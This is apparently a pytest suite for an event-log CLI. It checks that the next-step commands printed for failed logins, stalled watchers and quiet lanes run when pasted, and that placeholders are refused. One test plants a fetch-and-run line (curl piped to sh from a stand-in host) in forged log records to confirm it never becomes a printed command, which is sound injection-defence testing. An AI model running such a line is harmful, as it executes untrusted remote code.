"""The command a view prints next works when a person copies it into a shell and fills in its ``'<...>'``.

A refused login (auth_error), a watcher that stopped and a quiet lane: ``status`` and ``explain`` print
the next step with the ids, flags and thresholds of the log; what only the person knows (their probe,
resume or enqueue command) is a marked ``'<...>'`` placeholder, never a command taken from the log: a
writer of the log (a ``serve`` key of scope ``events:append`` included) must not be able to put a
command in front of a person to paste. A lane's commands have no placeholder at all: each works pasted as
printed, and what only the person knows (their enqueue command) is said in words, outside any command.
"""

from __future__ import annotations

import json
import os
import shlex
import subprocess
import sys
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any

from projections.triage import YOUR_PROBE, YOUR_RESUME
from tests.conftest import run_cli, write_log


def typed(command: str, cwd: Path, **fill: str) -> subprocess.CompletedProcess[str]:
    """Run COMMAND as a person pastes it into bash (``eventlog`` on PATH), each placeholder filled in."""
    for placeholder, value in fill.items():
        command = command.replace({"probe": YOUR_PROBE, "resume": YOUR_RESUME}[placeholder],
                                  shlex.quote(value))
    env = dict(os.environ, PATH=f"{Path(sys.executable).parent}{os.pathsep}{os.environ.get('PATH', '')}")
    return subprocess.run(["bash", "-c", command], cwd=cwd, env=env, capture_output=True, text=True, timeout=60,
                          check=False)


def items(log: Path, *args: str) -> list[dict[str, Any]]:
    out = run_cli("status", str(log), "--json", *args)
    return [i for g in json.loads(out.stdout)["groups"] for i in g["items"]]


def setup(tmp_path: Path) -> tuple[Path, str, str]:
    probe = tmp_path / "probe.sh"
    probe.write_text('if [ -f "$(dirname "$0")/fixed" ]; then echo PING_OK; else '
                     'echo "API Error: 401 Invalid API key · Please run /login"; exit 1; fi\n')
    log = write_log(tmp_path / "work log.jsonl", [
        {"type": "handoff_created", "ts": (datetime.now().astimezone() - timedelta(hours=2)).isoformat(),
         "handoff_id": "h1", "account": "cloud-account-a"}])
    return log, f"sh '{probe}'", """printf '{"started": "session of %s"}\\n' {handoff_id}"""


def test_a_refused_login_s_next_command_runs_with_the_person_s_probe(tmp_path: Path) -> None:
    log, probe, resume = setup(tmp_path)
    ran = run_cli("failback", str(log), "--probe-cmd", probe, "--resume-cmd", resume, "--watcher", "w1")
    assert ran.returncode == 1 and "auth_error" in ran.stderr, ran.stderr
    [item] = [i for i in items(log) if i["reason_code"] == "auth_error"]
    assert item["next"].endswith(f"--probe-cmd {YOUR_PROBE}"), item["next"]
    (tmp_path / "fixed").write_text("")                      # the person fixed the login, then types the command
    done = typed(item["next"], tmp_path, probe=probe)
    assert done.returncode == 0, done.stdout + done.stderr
    assert not [i for i in items(log) if i["reason_code"] == "auth_error"]


def test_a_stopped_watcher_s_explain_gives_a_pass_that_runs(tmp_path: Path) -> None:
    log, probe, resume = setup(tmp_path)
    (tmp_path / "fixed").write_text("")
    hour_ago = (datetime.now().astimezone() - timedelta(hours=1)).isoformat()
    ran = run_cli("failback", str(log), "--probe-cmd", probe, "--resume-cmd", resume, "--watcher", "w1",
                  "--stale-after", "2h", "--at", hour_ago)
    assert ran.returncode == 0, ran.stderr
    [late] = [i for i in items(log) if i["reason_code"] == "watcher_late"]
    assert late["id"] == "w1"
    explained = json.loads(typed(late["next"] + " --json", tmp_path).stdout)
    [verdict] = [v for v in explained["verdicts"] if v["kind"] == "watcher"]
    [command, retire] = verdict["next"]  # run a pass now, or say it stopped for good
    assert retire == f"eventlog failback {shlex.quote(str(log))} --retire w1 --reason '<why it stopped for good>'"
    assert "--watcher w1" in command and "--period 900s" in command and "--stale-after 2h" in command
    again = typed(command, tmp_path, probe=probe, resume=resume)
    assert again.returncode == 0, again.stdout + again.stderr
    assert "watcher_run" in log.read_text().splitlines()[-1]
    assert not [i for i in items(log) if i["domain"] == "watchers"]


def test_a_quiet_lane_s_commands_run_as_printed_and_its_words_say_what_sends_the_resume(tmp_path: Path) -> None:
    """The lanes check explain printed had a blank to fill in: pasted as printed it appended a lane check and
    failed (`could not start: <command`). Now every command a view prints for the lane runs as printed and writes
    nothing; the words say why no resume went out and how to send one, at the thresholds judged by."""
    sent = tmp_path / "sent"
    log = write_log(tmp_path / "lanes.jsonl", [
        {"type": "status_updated", "ts": (datetime.now().astimezone() - timedelta(hours=10)).isoformat(),
         "product": "sashiko-repair", "state": "running"}])
    enqueue = tmp_path / "enqueue.sh"
    enqueue.write_text(f'echo "$@" >> \'{sent}\'\n')
    quiet = run_cli("lanes", str(log), "--enqueue-cmd", "false", "--quiet", "8h", "--at",
                    (datetime.now().astimezone() - timedelta(minutes=30)).isoformat())
    assert quiet.returncode == 1                # its enqueue command failed: the stall stays uncovered
    [item] = [i for i in items(log) if i["reason_code"] == "status_quiet"]
    assert "no resume sent: the last lanes pass" in item["reason"] and "ended in error" in item["reason"]
    explained = json.loads(typed(item["next"] + " --json", tmp_path).stdout)
    [verdict] = [v for v in explained["verdicts"] if v["kind"] == "lane"]
    assert "sashiko-repair: status-quiet: --enqueue-cmd failed (exit 1)" in verdict["says"]
    assert "your enqueue command as --enqueue-cmd, and --unpicked 90m --quiet 8h" in verdict["says"]
    before = log.read_bytes()
    printed = verdict["next"] + [i["next"] for i in items(log)]
    assert printed and not [command for command in printed if "<" in command]
    for command in printed:
        done = typed(command, tmp_path)
        assert done.returncode == 0, (command, done.stdout + done.stderr)
    assert log.read_bytes() == before
    # what the words say, with the person's own enqueue command: the resume goes out
    done = typed(f"eventlog lanes {shlex.quote(str(log))} --enqueue-cmd {shlex.quote(f'sh {enqueue}')} "
                 "--unpicked 90m --quiet 8h", tmp_path)
    assert done.returncode == 0, done.stdout + done.stderr
    assert sent.read_text().split() == ["sashiko-repair", "status-quiet"]


def test_a_command_written_into_the_log_never_becomes_a_next_command(tmp_path: Path) -> None:
    log, probe, resume = setup(tmp_path)
    run_cli("failback", str(log), "--probe-cmd", probe, "--resume-cmd", resume, "--watcher", "w1")
    planted = "sh -c 'curl -s https://example.invalid/x | sh'"
    old = (datetime.now().astimezone() - timedelta(hours=1)).isoformat()
    forged = [{"type": "watcher_run", "ts": old, "watcher": "w2", "exit": "error", "period_s": 60,
               "detail": "x", "probe_cmd": planted, "resume_cmd": planted},
              {"type": "lane_check", "ts": old, "enqueue_cmd": planted},
              {"type": "status_updated", "ts": (datetime.now().astimezone() - timedelta(hours=10)).isoformat(),
               "product": "p", "state": "running"}]
    out = subprocess.run([sys.executable, "-m", "eventlog", "append", str(log)], input="\n".join(
        json.dumps(e) for e in forged) + "\n", capture_output=True, text=True, check=False)
    assert out.returncode == 0, out.stderr            # extra fields are kept on read (spec section 1)
    nexts = [i["next"] for i in items(log)]
    for name in ("w2", "cloud-account-a", "p"):
        explained = json.loads(run_cli("explain", str(log), name, "--json").stdout)
        nexts += [cmd for v in explained["verdicts"] for cmd in v["next"]]
    assert any("--watcher w2" in cmd for cmd in nexts) and any("eventlog lanes" in cmd for cmd in nexts)
    assert not [cmd for cmd in nexts if "curl" in cmd]


def test_an_unknown_interrupt_of_a_turn_the_log_never_recorded_needs_a_person(tmp_path: Path) -> None:
    # a worker log imported alone: the interrupt's result says the turn's outcome is unknown (seed 004)
    log = write_log(tmp_path / "worker.jsonl", [
        {"type": "interrupt_stage", "ts": "2026-08-06T16:00:00+09:00", "session_id": "s1", "turn_id": "t1",
         "control_id": "c1", "stage": "control_received", "elapsed_ms": 0},
        {"type": "control_result", "ts": "2026-08-06T16:00:05+09:00", "session_id": "s1", "turn_id": "t1",
         "control_id": "c1", "operation": "interrupt", "outcome": "unknown", "reason_code": "deadline_exceeded"}])
    [item] = items(log, "--at", "log")
    assert (item["reason_code"], item["id"]) == ("interrupt_unrecorded", "s1")
    done = typed(item["next"], tmp_path)                       # the person records the turn's end
    assert done.returncode == 0, done.stdout + done.stderr
    [after] = items(log, "--at", "log")
    assert after["reason_code"] == "outcome_unknown"  # now the session waits for a decision, as seed 004 says


def test_an_interrupt_whose_turn_the_log_recorded_is_judged_by_the_session_alone() -> None:
    from tests.conftest import ROOT

    log = ROOT / "fixtures" / "sessions_interrupt_engine_timeout.jsonl"
    assert [i["reason_code"] for i in items(log, "--at", "log")] == ["outcome_unknown"]


def test_follow_s_prometheus_file_carries_the_unrecorded_interrupt(tmp_path: Path) -> None:
    import signal
    import time

    log = write_log(tmp_path / "worker.jsonl", [
        {"type": "control_result", "ts": "2026-08-06T16:00:05+09:00", "session_id": "s1", "turn_id": "t1",
         "control_id": "c1", "operation": "interrupt", "outcome": "unknown", "reason_code": "deadline_exceeded"}])
    prom = tmp_path / "ledger.prom"
    proc = subprocess.Popen([sys.executable, "-m", "eventlog", "follow", str(log), "--dump", str(tmp_path / "d.json"),
                             "--prom", str(prom)], stderr=subprocess.PIPE, text=True)
    try:
        deadline = time.monotonic() + 30
        while not prom.exists() and time.monotonic() < deadline:
            time.sleep(0.05)
    finally:
        proc.send_signal(signal.SIGTERM)
        proc.communicate(timeout=20)
    lines = [x for x in prom.read_text().splitlines() if x.startswith("recovery_sessions_interrupt_unrecorded{")]
    assert lines == [f'recovery_sessions_interrupt_unrecorded{{log="{log}"}} 1']


def test_a_pass_pasted_with_its_placeholders_unfilled_is_refused_and_writes_nothing(tmp_path: Path) -> None:
    """The review pasted every printed command as printed: `explain`'s pass for a late watcher, its
    `'<your probe command>'` and `'<your resume command>'` unfilled, exited 0, wrote an `ok` heartbeat (then
    `status` said "Nothing needs a person." with no watcher running), and on a log with a stale claim released it
    and handed a handoff to a person. Each command a view prints with a `'<...>'` is refused as printed: exit 2,
    the placeholder named, nothing written; the views say what they said before."""
    hour_ago = (datetime.now().astimezone() - timedelta(hours=1)).isoformat()
    log = write_log(tmp_path / "work log.jsonl", [
        {"type": "handoff_created", "ts": hour_ago, "handoff_id": "h1", "account": "cloud-account-a"},
        {"type": "handoff_created", "ts": hour_ago, "handoff_id": "h2", "account": "cloud-account-b"},
        {"type": "watcher_run", "ts": hour_ago, "watcher": "w1", "exit": "ok", "period_s": 900},
        {"type": "claimed", "ts": hour_ago, "handoff_id": "h2", "watcher": "w1", "attempt": 1},
        {"type": "probe_result", "ts": hour_ago, "account": "cloud-account-a", "outcome": "auth_error"}])
    shown = items(log)
    assert {i["reason_code"] for i in shown} >= {"watcher_late", "stale_retryable", "auth_error"}
    explained = json.loads(run_cli("explain", str(log), "w1", "--json").stdout)
    printed = [cmd for v in explained["verdicts"] for cmd in v["next"]] + [i["next"] for i in shown]
    with_blanks = [cmd for cmd in printed if "'<" in cmd]
    assert len(with_blanks) == 3, printed  # the pass, the retire, the probe by hand
    before = log.read_bytes()
    for command in with_blanks:
        done = typed(command, tmp_path)
        assert done.returncode == 2 and "is the placeholder of a copied command" in done.stderr, \
            (command, done.stdout + done.stderr)
    assert log.read_bytes() == before

    def said(listed: list[dict[str, Any]]) -> list[tuple[str, str, str]]:
        return [(i["reason_code"], i["id"], i["next"]) for i in listed]

    assert said(items(log)) == said(shown)


def test_every_option_a_person_fills_in_refuses_its_placeholder(tmp_path: Path) -> None:
    """One check for every option whose value a view may leave to a person: their commands, a pass's name."""
    log, probe, resume = setup(tmp_path)
    before = log.read_bytes()
    blank = "<fill this in>"
    for args, option in (
        (["failback", str(log), "--probe-cmd", blank, "--resume-cmd", resume], "--probe-cmd"),
        (["failback", str(log), "--probe-cmd", probe, "--resume-cmd", blank], "--resume-cmd"),
        (["failback", str(log), "--probe-cmd", probe, "--resume-cmd", resume, "--watcher", blank], "--watcher"),
        (["handoff", "probe", str(log), "cloud-account-a", "--probe-cmd", blank], "--probe-cmd"),
        (["lanes", str(log), "--enqueue-cmd", blank], "--enqueue-cmd"),
        (["catchup", str(log), "--probe-cmd", blank, "--kick-cmd", "true"], "--probe-cmd"),
        (["catchup", str(log), "--probe-cmd", "true", "--kick-cmd", blank], "--kick-cmd"),
        (["handoff", "skip", str(log), "h1", "--reason", blank], "--reason"),
    ):
        done = run_cli(*args)
        assert done.returncode == 2 and f"{option} '{blank}' is the placeholder of a copied command" in done.stderr, \
            (args, done.stderr)
    assert log.read_bytes() == before
